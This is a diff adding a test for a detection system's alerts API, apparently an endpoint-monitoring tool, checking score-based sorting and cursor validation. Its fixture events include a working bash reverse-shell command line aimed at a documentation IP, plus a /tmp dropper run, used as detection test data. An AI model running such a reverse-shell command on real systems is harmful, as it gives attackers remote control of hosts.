@@ -88,3 +88,36 @@ describe("REST: /api/v1/events and /api/v1/agents", () => {
     expect(rest.body.items.map((e: { seq: number }) => e.seq)).toEqual([25, 24, 23, 22, 21]);
   });
 });
+
+describe("REST: /api/v1/alerts?sort=score", () => {
+  let ctl: TestController;
+  beforeAll(async () => {
+    ctl = await startTestController();
+    const a = new RawAgent(ctl.grpcPort);
+    a.hello("score-agent", { hostname: "score-host", tags: ["critical"] });
+    // A reverse shell (critical rule) an hour before a curl from /tmp (lower level): recency and score disagree.
+    const t = Date.now() - 3_600_000;
+    a.events(1, 2, (seq) => ({
+      eventTimeMs: seq === 1 ? t : t + 3_000_000,
+      body: { $case: "process", process: { action: 1, pid: 1000 + seq, ppid: 1, exe: seq === 1 ? "/usr/bin/bash" : "/tmp/dropper", commandLine: seq === 1 ? "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1" : "/tmp/dropper --run", user: "www-data", uid: 33, cwd: "/", startTimeMs: t, sha256: "", parentExe: "", parentCommandLine: "", name: "x", exeDeleted: false, exitCode: 0 } },
+    }));
+    await waitFor("ack", () => a.lastAck() === 2);
+    await ctl.detection.pipeline.idle();
+    a.close();
+  });
+  afterAll(async () => ctl?.dispose());
+
+  it("orders by score with its own cursor; the default stays most recent first", async () => {
+    const byScore = await ctl.get("/api/v1/alerts?agent=score-agent&sort=score&limit=1");
+    expect(byScore.status).toBe(200);
+    const first = byScore.body.items[0];
+    const next = await ctl.get(`/api/v1/alerts?agent=score-agent&sort=score&limit=1&cursor=${byScore.body.nextCursor}`);
+    const second = next.body.items[0];
+    expect(first.score).toBeGreaterThanOrEqual(second.score);
+    expect(first.id).not.toBe(second.id);
+    const recent = await ctl.get("/api/v1/alerts?agent=score-agent&limit=2");
+    expect(recent.body.items.map((x: { id: string }) => x.id)).toHaveLength(2);
+    expect((await ctl.get("/api/v1/alerts?sort=loudest")).status).toBe(400);
+    expect((await ctl.get(`/api/v1/alerts?sort=score&cursor=${recent.body.nextCursor ?? "bm9wZQ"}`)).status).toBe(400);
+  });
+});
